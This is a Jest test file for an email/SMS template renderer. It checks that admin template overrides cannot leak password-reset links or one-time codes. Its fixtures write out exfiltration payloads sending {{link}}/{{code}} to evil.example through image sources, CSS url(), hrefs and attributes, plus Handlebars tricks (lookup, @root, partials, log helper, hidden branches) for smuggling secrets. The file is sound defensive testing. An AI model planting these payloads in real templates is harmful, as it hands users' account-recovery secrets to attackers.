// An admin with `templates:write` must not be able to make the victim's mail client (or the
// service's logs) hand a secret link or code to someone else: overrides that try are refused at
// validation, and a render that would place a secret badly is refused on that send.
import { afterEach, beforeAll, describe, expect, it, jest } from '@jest/globals';
import { TemplateError, type TemplateIssue } from './errors.ts';
import type { TemplateOverrideSource, TemplateRenderer } from './renderer.ts';
import { createRendererForTest, hrefs } from './test-support.ts';

let renderer: TemplateRenderer;
beforeAll(async () => {
  renderer = await createRendererForTest();
});
afterEach(() => {
  jest.restoreAllMocks();
});

const body = (inner: string) => `<mj-section><mj-column>${inner}</mj-column></mj-section>`;
const resetLink = () => String(renderer.sampleData('password-reset').link);
const otpCode = () => String(renderer.sampleData('otp-code').code);
const messages = (issues: TemplateIssue[]) => issues.map((i) => `${i.part}: ${i.message}`).join('\n');

/** Renders `override` with the sample data; the rendered parts, or the TemplateError. */
async function tryRender(key: string, override: TemplateOverrideSource, data = renderer.sampleData(key)) {
  try {
    return await renderer.renderEmail({ key, locale: 'en', data, override });
  } catch (error) {
    return error;
  }
}

describe('a secret placed where a mail client loads it is refused', () => {
  const exfiltration: [string, TemplateOverrideSource, RegExp][] = [
    [
      'mj-image src',
      {
        mjml: body(
          '<mj-button href="{{link}}">Reset</mj-button><mj-image src="https://evil.example/p.png?x={{link}}" />',
        ),
      },
      /\{\{link\}\} is secret .* not in the "src" attribute of <img>/,
    ],
    [
      'img inside mj-text',
      {
        mjml: body(
          '<mj-text><a href="{{link}}">Reset</a><img src="https://evil.example/q?x={{link}}"></mj-text>',
        ),
      },
      /not in the "src" attribute of <img>/,
    ],
    [
      'img in an html override',
      {
        html: '<html><body><p>Reset: <a href="{{link}}">here</a></p><img src="https://evil.example/q?x={{link}}"></body></html>',
      },
      /not in the "src" attribute of <img>/,
    ],
    [
      'a link to another host carrying the link',
      { html: '<html><body><a href="https://evil.example/{{link}}">Reset</a> {{link}}</body></html>' },
      /in the href of an <a> but not as its whole/,
    ],
    [
      'mj-style url()',
      {
        mjml: `<mjml><mj-head><mj-style>body { background: url(https://evil.example/{{link}}); }</mj-style></mj-head><mj-body>${body('<mj-button href="{{link}}">Reset</mj-button>')}</mj-body></mjml>`,
      },
      /inside <style>/,
    ],
    [
      'a <style> of an html override',
      {
        html: '<html><head><style>p { background: url("https://evil.example/{{link}}"); }</style></head><body><a href="{{link}}">Reset</a></body></html>',
      },
      /inside <style>/,
    ],
    [
      'a style attribute',
      {
        html: '<html><body><div style="background-image:url(https://evil.example/{{link}})"><a href="{{link}}">x</a></div></body></html>',
      },
      /"style" attribute of <div>/,
    ],
    [
      'mj-section background-url',
      {
        mjml: `<mj-section background-url="https://evil.example/{{link}}"><mj-column><mj-button href="{{link}}">Reset</mj-button></mj-column></mj-section>`,
      },
      /attribute/,
    ],
    [
      'a css-class (any other attribute)',
      { mjml: body('<mj-text css-class="x{{link}}"><a href="{{link}}">Reset</a></mj-text>') },
      /"class" attribute/,
    ],
    [
      'the head of an html override',
      { html: '<html><head><title>{{link}}</title></head><body><a href="{{link}}">Reset</a></body></html>' },
      /inside <title>/,
    ],
  ];

  it.each(exfiltration)('%s', async (_, override, expected) => {
    const issues = await renderer.validateOverride('password-reset', 'en', override);
    expect(messages(issues)).toMatch(expected);
    // Rendering it (as a send would) is refused too, so nothing is sent with the link at evil.example.
    const result = await tryRender('password-reset', override);
    expect(result).toBeInstanceOf(TemplateError);
    expect(result).toMatchObject({ code: 'template_invalid' });
  });

  it('refuses the one-time code in an image, an alt text or an href', async () => {
    for (const mjml of [
      body('<mj-text>{{code}}</mj-text><mj-image src="https://evil.example/{{code}}.png" />'),
      body('<mj-text>{{code}}</mj-text><mj-image alt="{{code}}" src="https://example.com/logo.png" />'),
      body('<mj-text>{{code}}</mj-text><mj-button href="{{code}}">x</mj-button>'),
    ]) {
      const issues = await renderer.validateOverride('otp-code', 'en', { mjml });
      expect(messages(issues)).toMatch(/\{\{code\}\} is secret/);
    }
  });

  it('refuses a secret in the subject, directly or indirectly', async () => {
    for (const [key, subject] of [
      ['password-reset', 'Reset: {{link}}'],
      ['otp-code', 'Your code is {{code}}'],
      ['otp-code', '{{#if code}}x{{/if}}'],
    ] as const) {
      const issues = await renderer.validateOverride(key, 'en', { subject });
      expect(messages(issues)).toMatch(
        /subject: \{\{(link|code)\}\} is secret and may not be in the subject/,
      );
    }
  });

  it('refuses a secret handed to helpers, blocks, partials, or split into parts', async () => {
    for (const sms of [
      '{{code}} {{eq code "1"}}',
      '{{code}} {{#if (eq code "123456")}}x{{/if}}',
      '{{code}} {{#code}}{{this}}{{/code}}',
      '{{code}} {{code.[0]}}',
      '{{code}} {{code.length}}',
      '{{code}} {{> greeting name=code}}',
      '{{code}} {{#with this as |all|}}{{all.code}}{{/with}}',
      '{{code}} {{#each this}}{{this}}{{/each}}',
      '{{code}} {{#each .}}{{this}}{{/each}}',
      '{{code}} {{> greeting this}}',
      '{{code}} {{@root.code}}',
      '{{code}} {{lookup this "code"}}',
      '{{code}} {{#with (lookup . "code")}}{{this}}{{/with}}',
    ]) {
      const issues = await renderer.validateOverride('otp-code', 'en', { sms });
      expect({ sms, refused: issues.length > 0 }).toEqual({ sms, refused: true });
      expect(() =>
        renderer.renderSms({
          key: 'otp-code',
          locale: 'en',
          data: renderer.sampleData('otp-code'),
          override: { sms },
        }),
      ).toThrow(TemplateError);
    }
  });

  it('refuses a bad placement hidden behind a branch the samples do not take, on the send itself', async () => {
    // Validation renders the samples (name "Ada Lovelace", or no name): the image shows for no one
    // there, so the override is accepted; but any real send that shows it is refused.
    const override: TemplateOverrideSource = {
      mjml: body(
        '<mj-button href="{{link}}">Reset</mj-button><mj-text>{{#if name}}{{#if (eq name "Ada Lovelace")}}{{else}}<img src="https://evil.example/?{{link}}">{{/if}}{{/if}}</mj-text>',
      ),
    };
    expect(await renderer.validateOverride('password-reset', 'en', override)).toEqual([]);
    const victim = { ...renderer.sampleData('password-reset'), name: 'Grace Hopper' };
    const result = await tryRender('password-reset', override, victim);
    expect(result).toBeInstanceOf(TemplateError);
    expect(messages([...(result as TemplateError).issues])).toMatch(/"src" attribute of <img>/);
    // The sample's recipient still gets the message, with the link only where it belongs.
    const ada = await tryRender('password-reset', override);
    expect(ada).not.toBeInstanceOf(Error);
    const html = (ada as { html: string }).html;
    expect(html).not.toContain('evil.example');
    expect(hrefs(html)).toContain(resetLink());
  });

  it('keeps the link whole and the host unchanged where it is allowed', async () => {
    const override: TemplateOverrideSource = {
      html: '<html><body><p>{{> greeting}}</p><a href="{{link}}">Reset</a><p>{{link}}</p></body></html>',
    };
    expect(await renderer.validateOverride('password-reset', 'en', override)).toEqual([]);
    const email = (await tryRender('password-reset', override)) as { html: string };
    expect(hrefs(email.html)).toEqual([resetLink()]);
    expect(email.html).toContain('<p>https://id.example.com/reset-password?token&#x3D;');
  });
});

describe('the log helper', () => {
  const spies = () =>
    (['log', 'info', 'warn', 'error', 'debug'] as const).map((m) =>
      jest.spyOn(console, m).mockImplementation(() => undefined),
    );
  const stdout = () => jest.spyOn(process.stdout, 'write').mockImplementation(() => true);

  it('is refused in every part and never prints the code', async () => {
    const consoles = spies();
    const out = stdout();
    for (const sms of [
      '{{code}} {{log code}}',
      '{{code}} {{log "x" level="error"}}',
      '{{code}} {{#each this}}{{log this}}{{/each}}',
    ]) {
      const issues = await renderer.validateOverride('otp-code', 'en', { sms });
      expect(messages(issues)).toMatch(/The "log" helper is not allowed/);
      expect(() =>
        renderer.renderSms({
          key: 'otp-code',
          locale: 'en',
          data: renderer.sampleData('otp-code'),
          override: { sms },
        }),
      ).toThrow(TemplateError);
    }
    const text = '{{> greeting}} {{code}} {{log code}}';
    expect(messages(await renderer.validateOverride('otp-code', 'en', { text }))).toMatch(/"log" helper/);
    for (const spy of [...consoles, out]) {
      for (const call of spy.mock.calls) expect(JSON.stringify(call)).not.toContain(otpCode());
    }
    expect(consoles.every((s) => s.mock.calls.length === 0)).toBe(true);
  });
});

describe('the shipped templates', () => {
  it('place every secret only in allowed places (each renders under the same check)', async () => {
    for (const t of renderer.listTemplates().filter((l) => l.channel === 'email')) {
      const email = await renderer.renderEmail({
        key: t.key,
        locale: t.locale,
        data: renderer.sampleData(t.key),
      });
      const data = renderer.sampleData(t.key);
      for (const field of ['link', 'code']) {
        const value = data[field];
        if (typeof value !== 'string') continue;
        expect({ key: t.key, subjectHasSecret: email.subject.includes(value) }).toEqual({
          key: t.key,
          subjectHasSecret: false,
        });
        expect(email.text).toContain(value);
        if (field === 'link') expect(hrefs(email.html)).toContain(value);
        else expect(email.html).toContain(value);
      }
    }
  });
});
